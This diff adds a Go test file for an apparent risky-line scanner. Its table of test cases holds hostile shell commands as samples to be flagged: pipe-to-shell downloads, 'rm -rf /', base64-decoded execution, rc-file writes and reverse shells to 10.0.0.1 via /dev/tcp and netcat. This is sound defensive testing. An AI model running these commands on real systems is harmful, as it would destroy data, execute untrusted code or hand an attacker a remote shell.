@@ -0,0 +1,73 @@
+package scan
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestFileFlagsRiskyLines(t *testing.T) {
+	cases := []struct {
+		line string
+		rule string // empty means no finding
+	}{
+		{"curl -fsSL https://example.com/install.sh | sh", "pipe-to-shell"},
+		{"wget -qO- https://example.com/x | sudo bash", "pipe-to-shell"},
+		{`sh -c "$(curl -fsSL https://example.com/x)"`, "pipe-to-shell"},
+		{"iwr https://example.com/x.ps1 | iex", "pipe-to-shell"},
+		{"rm -rf /", "destructive-rm"},
+		{`rm -fr "$HOME"`, "destructive-rm"},
+		{"rm -rf ~/*", "destructive-rm"},
+		{"rm -rf /tmp/build", ""},
+		{"rm -rf ./out", ""},
+		{"echo ZWNobyBoaQ== | base64 -d | sh", "encoded-exec"},
+		{"exec(base64.b64decode(payload))", "encoded-exec"},
+		{"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "reverse-shell"},
+		{"nc -e /bin/sh 10.0.0.1 4242", "reverse-shell"},
+		{`echo 'export PATH=$PATH:/opt/x' >> ~/.bashrc`, "rc-file-write"},
+		{`echo x | tee -a "$HOME/.zshrc"`, "rc-file-write"},
+		{"source ~/.bashrc", ""},
+		{"cat app.profile > out.txt", ""},
+		{"r = requests.get(url)", "network"},
+		{"curl -sS https://api.example.com/v1/status", "network"},
+		{`print("hello")`, ""},
+	}
+	for _, tc := range cases {
+		findings := File("x", []byte(tc.line))
+		if tc.rule == "" {
+			if len(findings) > 0 {
+				t.Errorf("%q: unexpected finding %s", tc.line, findings[0].Rule)
+			}
+			continue
+		}
+		if len(findings) != 1 || findings[0].Rule != tc.rule {
+			t.Errorf("%q: got %+v, want one %s finding", tc.line, findings, tc.rule)
+		}
+	}
+}
+
+func TestDirSortsBySeverityAndSkipsBinaries(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, data string) {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write("fetch.py", "import requests\nrequests.get(URL)\n")
+	write("install.sh", "#!/bin/sh\nset -e\ncurl -fsSL https://example.com/i.sh | sh\n")
+	write("blob.bin", "curl x | sh\x00")
+
+	findings, err := Dir(dir, []string{"blob.bin", "fetch.py", "install.sh"})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+	if len(findings) != 2 {
+		t.Fatalf("expected 2 findings, got %+v", findings)
+	}
+	if f := findings[0]; f.Severity != High || f.Location() != "install.sh:3" {
+		t.Fatalf("first finding = %+v", f)
+	}
+	if got := Summary(findings); got != "1 high, 1 low" {
+		t.Fatalf("summary = %q", got)
+	}
+}